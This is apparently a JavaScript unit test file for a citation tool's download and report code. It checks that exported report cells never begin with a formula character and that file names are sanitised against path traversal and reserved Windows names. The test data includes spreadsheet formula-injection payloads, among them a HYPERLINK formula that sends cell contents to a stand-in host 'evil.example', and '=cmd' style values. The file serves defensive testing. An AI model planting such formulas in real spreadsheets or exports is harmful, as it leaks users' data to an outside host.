// What leaves the page as a file or on the clipboard does no harm where it arrives. Without a browser.

import assert from 'node:assert/strict';
import { test } from 'node:test';

import { fileName } from '../../www/download.js';
import { reportText } from '../../www/report.js';

const report = (from, message = '') => {
  const repairs = [{ field: 'title', from, to: `${from} x`, rule: 'whitespace' }];
  const warnings = message ? [{ field: '', message }] : [];
  return reportText({ repairs, warnings }, { lang: 'en', strings: {}, document: { URL: 'https://journal.example/1' } });
};

test('no cell of the report is a formula', () => {
  for (const start of ['=', '+', '-', '@', ' =', '\t=', '\n@', '＝', '\u00a0+']) {
    const lines = report(`${start}HYPERLINK("https://evil.example/?"&A1)`, `${start}cmd`).split('\n');
    assert.equal(lines.length, 4, start);
    for (const cell of lines.flatMap((line) => line.split('\t'))) assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠]/, start);
  }
  assert.match(report('A = B'), /title\tA = B\tA = B x\twhitespace/);
});

test('the name of a file is one that every system accepts', () => {
  assert.equal(fileName('shannon1948mathematical'), 'shannon1948mathematical');
  assert.equal(fileName(''), 'citation');
  assert.equal(fileName('../..//a.b'), 'ab');
  for (const name of ['con', 'NUL', 'aux', 'prn', 'com1', 'lpt9']) assert.equal(fileName(name), `citation-${name}`);
  assert.equal(fileName('console'), 'console');
  assert.equal(fileName('x'.repeat(653)).length, 80);
});
